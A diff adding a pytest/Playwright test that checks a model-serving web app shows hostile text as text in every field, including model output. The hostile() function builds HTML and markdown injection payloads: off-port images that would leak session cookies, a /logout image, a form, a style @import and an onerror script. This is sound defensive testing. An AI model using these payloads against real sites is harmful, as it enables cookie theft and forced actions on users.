@@ -1,0 +1,137 @@
+"""Hostile text in every field users, files and the model fill: a real Chromium shows it as text, and nothing
+it names (an image on another port of this host, /logout, a form, a style, an overlay) is fetched or drawn.
+
+A second loopback port stands for "another service on the same host": cookies are per host, not per port,
+so an image pointing there would carry the reader's session cookie. It must receive nothing.
+"""
+
+from __future__ import annotations
+
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+from helpers import png_bytes
+from test_browser import ARTIFACTS, CHROMIUM_ARGS, _login, chromium  # noqa: F401 - the fixture is used by name
+from webapp import serve
+
+from loupe.core.vlm.base import GenerationOptions, StreamChunk
+from loupe.core.vlm.hf import HFVLM
+
+INJECTED = "#inj, #frm, #ovl, #onerr, a[href*='logout'], [style*='fixed']"
+
+
+class Trap:
+    """A listener on another loopback port that records every request it gets."""
+
+    def __init__(self) -> None:
+        hits: list[str] = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802 - http.server's name
+                hits.append(f"{self.command} {self.path}")
+                self.send_response(200)
+                self.send_header("content-length", "0")
+                self.end_headers()
+
+            do_POST = do_GET  # noqa: N815
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.hits = hits
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture
+def trap() -> Iterator[Trap]:
+    listener = Trap()
+    yield listener
+    listener.close()
+
+
+def hostile(trap: str, title: bool = False) -> str:
+    """An image on another port (twice), /logout as an image, a form, an overlay and a style: a case title's
+    200 characters; other fields also get a script in an error handler."""
+    host = trap.removeprefix("http:")  # protocol-relative: shorter, the same request
+    text = (f"![a]({host}/m) <img src={host}/h id=inj> ![b](/logout) <form id=frm action={host}/f><input></form>"
+            f"<div id=ovl>x</div><style>@import'{host}/c';</style>")
+    assert len(text) <= 200, len(text)
+    return text if title else text + " <img src=x onerror=this.id='onerr'>"
+
+
+def hostile_model(text: str) -> type[HFVLM]:
+    """The real tiny model, its answers opening with what a poisoned document could make it say."""
+
+    class Hostile(HFVLM):
+        def stream(self, messages, options=None, conversation=None) -> Iterator[StreamChunk]:  # noqa: ANN001
+            yield StreamChunk(text + " ")
+            yield from super().stream(messages, options, conversation)
+
+    return Hostile
+
+
+def _foreign_images(page, origin: str) -> list[str]:  # noqa: ANN001 - a Playwright page
+    sources = page.evaluate("[...document.querySelectorAll('img, image, input, form')]"
+                            ".map(e => e.src || e.href?.baseVal || e.action || '')")
+    return [s for s in sources if s and not s.startswith((origin, "data:", "blob:"))]
+
+
+@pytest.mark.browser
+def test_hostile_text_in_every_field_is_shown_as_text(tmp_path, tiny_model_dir, chromium, trap):  # noqa: F811
+    from playwright.sync_api import expect, sync_playwright
+    text = hostile(trap.url)
+    users = {"alice": "user", "rex": "reviewer"}
+    model = tiny_model_dir("smolvlm")
+    with serve(tmp_path / "home", model, users, hostile_model(text).from_pretrained) as served, \
+            sync_playwright() as pw:
+        service, store = served.service, served.service.store
+        alice, rex = service.user("alice"), service.user("rex")
+        case_id = service.create_case(alice, "general", png_bytes((64, 48)), hostile(trap.url, title=True))
+        steps = list(service.ask(alice, case_id, text, GenerationOptions(max_new_tokens=4, detail="low")))
+        answer_id = steps[-1].message_id
+        store.share_case(alice, case_id, "rex")
+        store.review(rex, answer_id, "edited", text)  # the corrected answer
+
+        # rex, a reviewer, opens alice's case and asks the same thing himself (the streamed path).
+        browser = pw.chromium.launch(executable_path=chromium, headless=True, args=CHROMIUM_ARGS)
+        page = browser.new_page(viewport={"width": 1400, "height": 1000})
+        requests: list[str] = []
+        page.on("request", lambda r: requests.append(r.url))
+        _login(page, served.url, "rex")
+        cases = page.locator("#general-cases")
+        expect(cases).to_contain_text("![a](", timeout=30_000)  # the title, as written, in the list
+        cases.get_by_test_id("cell-0-1").click()
+        header = page.locator("#general-case-header")
+        expect(header).to_contain_text(f"Case {case_id}: ![a](//127.0.0.1:", timeout=30_000)
+        chat = page.locator("#general-chat")
+        expect(chat).to_contain_text("Corrected: ![a](")
+        page.locator("#general-question textarea").fill(text)
+        page.locator("#general-ask").click()
+        expect(page.locator("#general-status")).to_contain_text("Answered in", timeout=60_000)
+        page.locator("#general-answer-choice input").click()
+        page.get_by_role("option", name="Answer 1:").click()
+        expect(page.locator("#general-answer-shown")).to_contain_text("<form id=frm", timeout=30_000)
+        page.get_by_text("Sharing and archive").click()
+        page.locator("#general-share-user textarea").fill(text)  # the share user name
+        page.locator("#general-share").click()
+        expect(page.locator("#general-status")).to_contain_text("⚠️", timeout=30_000)
+
+        # Every field shows the text, nothing of it became an element, nothing left for another port.
+        expect(chat.locator("[data-testid=user]")).to_have_count(2)
+        assert chat.locator("[data-testid=user]").first.inner_text().strip().startswith("![a](")
+        assert page.locator(INJECTED).count() == 0
+        assert _foreign_images(page, served.url.rstrip("/")) == []
+        ARTIFACTS.mkdir(exist_ok=True)
+        page.screenshot(path=str(ARTIFACTS / "hostile-text.png"), full_page=True)
+        assert page.evaluate("fetch('/config').then(r => r.status)") == 200  # still logged in
+        browser.close()
+    assert [u for u in requests if not u.startswith((served.url, "data:", "blob:"))] == []
+    assert trap.hits == []
